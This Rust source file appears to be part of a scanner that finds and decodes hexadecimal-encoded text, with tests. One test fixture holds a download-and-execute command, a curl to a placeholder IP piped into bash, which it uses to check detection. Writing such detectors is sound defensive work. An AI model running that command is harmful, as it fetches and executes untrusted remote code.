//! Hexadecimal digits: one long run, or pairs and groups with blanks between.

use std::ops::Range;

use super::{Finds, compressed};
use crate::scan::layer::budget::TEXT_BYTES;
use crate::scan::layer::readable::{HEAD_BYTES, has_words, may_be_text, text_of};

/// Digits from which on a run is decoded.
const RUN_DIGITS: usize = 16;
/// Bytes between two groups of digits.
const GAP_BYTES: usize = 6;

/// Collects the groups of one run.
pub(super) struct HexRuns<'t> {
    text: &'t str,
    span: Range<usize>,
    digits: String,
    is_cut: bool,
}

impl<'t> HexRuns<'t> {
    pub(super) fn new(text: &'t str) -> Self {
        Self { text, span: 0..0, digits: String::new(), is_cut: false }
    }

    /// Takes the next group of digits.
    pub(super) fn push(&mut self, group: Range<usize>, finds: &mut Finds) {
        let gap = &self.text.as_bytes()[self.span.end..group.start];
        let continues = !self.digits.is_empty()
            && gap.len() <= GAP_BYTES
            && gap.iter().all(|byte| b" \t\r\n,:;\"'\\".contains(byte));
        if !continues {
            self.flush(finds);
            self.span.start = group.start;
        }
        self.span.end = group.end;
        if self.digits.len() < TEXT_BYTES * 2 {
            self.digits.push_str(&self.text[group.start..group.end.min(group.start + TEXT_BYTES * 2)]);
        } else {
            self.is_cut = true;
        }
    }

    /// Decodes what was collected.
    pub(super) fn flush(&mut self, finds: &mut Finds) {
        let digits = std::mem::take(&mut self.digits);
        let is_cut =
            std::mem::take(&mut self.is_cut) || digits.len() < self.span.len() && digits.len() >= TEXT_BYTES * 2;
        if digits.len() < RUN_DIGITS {
            return;
        }
        let Ok(head) = hex::decode(&digits[..(HEAD_BYTES * 2).min(digits.len()) & !1]) else { return };
        if !may_be_text(&head) && !compressed::is_compressed(&head) {
            return;
        }
        let Ok(bytes) = hex::decode(&digits[..digits.len() & !1]) else { return };
        let (steps, bytes) = match compressed::inflate(&bytes) {
            Some((step, inflated)) => (vec!["hex".to_owned(), step.to_owned()], inflated),
            None => (vec!["hex".to_owned()], bytes),
        };
        if let Some(text) = text_of(&bytes).filter(|text| has_words(text)) {
            finds.is_cut |= is_cut;
            finds.push_chain(self.span.clone(), steps, text, false);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::find_all;

    #[test]
    fn digits_in_a_run_and_in_groups_are_read() {
        let payload = "curl -s http://203.0.113.7/x | bash";
        let run = hex::encode(payload);
        let pairs: Vec<&str> = (0..run.len()).step_by(2).map(|at| &run[at..at + 2]).collect();
        let groups: Vec<&str> = (0..run.len()).step_by(6).map(|at| &run[at..(at + 6).min(run.len())]).collect();
        for text in
            [run.clone(), run.to_uppercase(), pairs.join(" "), pairs.join(":"), groups.join(" "), groups.join("\n")]
        {
            let finds = find_all(&text);
            assert_eq!(finds.texts.iter().map(|found| found.text.as_str()).collect::<Vec<_>>(), [payload], "{text}");
        }
    }

    #[test]
    fn numbers_are_no_text() {
        for text in ["10 20 30 40 50 60 70 80 90", "2024 2025 2026 1000 2000 3000", "00:1b:44:11:3a:b7:00:1b:44:11"] {
            assert!(find_all(text).texts.is_empty(), "{text}");
        }
    }
}
